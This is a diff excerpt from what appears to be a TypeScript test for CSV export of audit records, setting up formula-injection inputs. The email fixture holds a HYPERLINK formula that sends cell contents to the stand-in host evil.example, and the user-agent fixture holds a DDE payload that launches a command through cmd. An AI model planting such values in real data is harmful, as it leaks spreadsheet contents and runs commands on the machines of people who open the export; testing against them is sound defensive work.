@@ -10,7 +10,7 @@ import { exportToFiles } from "../audit/export-fixtures";
 const corr = uniqueName("csv-formula");
 // Sign-in lower-cases the address it audits.
 const email = `=hyperlink("http://evil.example/?"&a1,"${uniqueName("click")}")`;
-const userAgent = "@SUM(1+1)*cmd|' /C calc'!A0";
+const userAgent = "=cmd|' /C calc'!A0 @SUM(1+1)";
 let credentials: { apiKey: string };
 
 /** RFC 4180 records: quoted fields may hold commas, newlines and doubled quotes. */
